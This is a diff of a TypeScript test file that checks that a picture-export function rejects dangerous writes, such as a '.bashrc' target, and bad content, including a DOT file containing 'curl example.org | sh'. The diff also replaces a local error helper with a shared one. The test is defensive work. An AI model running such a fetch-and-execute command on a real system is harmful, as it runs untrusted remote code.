@@ -2,10 +2,10 @@ import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 
 import { join } from 'node:path';
 import { gzipSync } from 'node:zlib';
 import { afterAll, beforeEach, expect, test } from 'vitest';
+import { codeThrownBy } from '../../../test/fixtures/thrown.ts';
 import { contract, type CallInput } from '../../shared/contract/index.ts';
 import { appearanceOf, defaultFigure, drawFigure, drawnGraph, graphFormats, pictureExtensions, usualAppearance, withDensity } from '../../shared/graph/index.ts';
 import { hostileGraph } from '../../shared/graph/testing.ts';
-import { ExpectedError } from '../../shared/result.ts';
 import { writePictureFile } from './picture-file.ts';
 import { workFolder } from './testing.ts';
 
@@ -28,16 +28,6 @@ function write(input: Omit<CallInput<'exports.picture'>, 'content'> & { readonly
   return call.answer.parse(writePictureFile({ mirror: { title: '', sources: [mirror] }, hubFolders: {} }, call.args.parse({ ...args, content: gzipSync(file).toString('base64') })));
 }
 
-function errorOf(run: () => unknown): string {
-  try {
-    run();
-  } catch (error) {
-    if (error instanceof ExpectedError) return error.code;
-    throw error;
-  }
-  return 'none';
-}
-
 const graph = hostileGraph();
 const drawn = drawnGraph({ graph, positions: null, appearance: appearanceOf(graph, usualAppearance(graph.nodes), 'print'), title: 'T', filters: '', made: 'now' });
 const svg = drawFigure(drawn, defaultFigure).svg;
@@ -53,21 +43,21 @@ test('every form that this program makes is written as it is', () => {
 });
 
 test('another name or another content is refused, and nothing is left', () => {
-  expect(errorOf(() => write({ format: 'svg', file: svg, target: join(out, '.bashrc') }))).toBe('refused');
-  expect(errorOf(() => write({ format: 'svg', file: '<html>', target: join(out, 'a.svg') }))).toBe('invalid-arguments');
-  expect(errorOf(() => write({ format: 'png', file: svg, target: join(out, 'a.png') }))).toBe('invalid-arguments');
-  expect(errorOf(() => write({ format: 'dot', file: 'curl example.org | sh', target: join(out, 'a.dot') }))).toBe('invalid-arguments');
-  expect(errorOf(() => writePictureFile({ mirror: { title: '', sources: [] }, hubFolders: {} }, { format: 'svg', content: 'AAAA', target: join(out, 'a.svg'), overwrite: false }))).toBe('invalid-arguments');
+  expect(codeThrownBy(() => write({ format: 'svg', file: svg, target: join(out, '.bashrc') }))).toBe('refused');
+  expect(codeThrownBy(() => write({ format: 'svg', file: '<html>', target: join(out, 'a.svg') }))).toBe('invalid-arguments');
+  expect(codeThrownBy(() => write({ format: 'png', file: svg, target: join(out, 'a.png') }))).toBe('invalid-arguments');
+  expect(codeThrownBy(() => write({ format: 'dot', file: 'curl example.org | sh', target: join(out, 'a.dot') }))).toBe('invalid-arguments');
+  expect(codeThrownBy(() => writePictureFile({ mirror: { title: '', sources: [] }, hubFolders: {} }, { format: 'svg', content: 'AAAA', target: join(out, 'a.svg'), overwrite: false }))).toBe('invalid-arguments');
   expect(readdirSync(out)).toEqual([]);
 });
 
 test('a file that is there stays unless it may be overwritten, and none is written into a mirror', () => {
   const target = join(out, 'a.svg');
   writeFileSync(target, 'mine');
-  expect(errorOf(() => write({ format: 'svg', file: svg, target }))).toBe('refused');
+  expect(codeThrownBy(() => write({ format: 'svg', file: svg, target }))).toBe('refused');
   expect(readFileSync(target, 'utf8')).toBe('mine');
   write({ format: 'svg', file: svg, target, overwrite: true });
   expect(readFileSync(target, 'utf8')).toBe(svg);
-  expect(errorOf(() => write({ format: 'svg', file: svg, target: join(mirror, 'a.svg') }))).toBe('refused');
+  expect(codeThrownBy(() => write({ format: 'svg', file: svg, target: join(mirror, 'a.svg') }))).toBe('refused');
   expect(existsSync(join(mirror, 'a.svg'))).toBe(false);
 });
